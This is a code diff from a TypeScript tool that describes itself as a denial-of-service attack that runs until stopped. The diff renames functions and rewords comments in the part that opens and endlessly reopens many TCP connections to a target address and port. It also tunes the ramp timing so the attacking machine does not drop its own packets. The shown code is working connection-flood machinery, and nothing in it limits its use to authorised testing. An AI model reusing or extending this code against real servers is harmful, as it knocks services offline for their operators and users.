@@ -5,7 +5,10 @@ import type { Target } from './http';
 
 const MEBIBYTE = 2 ** 20;
 const REOPEN_MS = 1000;
-/** Time in which all connections begin. A burst would overflow the packet queue of the attacking machine (1,000 on Linux), which also drops honest packets. */
+/**
+ * Time in which all connections open. A burst would overflow the packet queue of the attacking machine (1,000 on Linux), which also drops
+ * legitimate packets.
+ */
 const RAMP_MS = 1000;
 
 /** Denial-of-service attack. Runs until it is stopped. */
@@ -84,13 +87,13 @@ export function launch({ name }: Attack, { address, port }: Target): () => void 
   return () => void child.kill();
 }
 
-/** Attacks a target until the process ends. Opens all connections within a second. */
-export function start({ connections, attack }: Attack, { address, port }: Target): void {
-  const begin = () => {
+/** Attacks a target until the process ends. Opens all connections within RAMP_MS. */
+export function startAttack({ connections, attack }: Attack, { address, port }: Target): void {
+  const openConnection = () => {
     const socket = connect(port, address);
     socket.on('error', () => undefined);
-    socket.once('close', () => setTimeout(begin, REOPEN_MS));
+    socket.once('close', () => setTimeout(openConnection, REOPEN_MS));
     attack(socket);
   };
-  for (let i = 0; i < connections; i++) setTimeout(begin, (i * RAMP_MS) / connections);
+  for (let i = 0; i < connections; i++) setTimeout(openConnection, (i * RAMP_MS) / connections);
 }
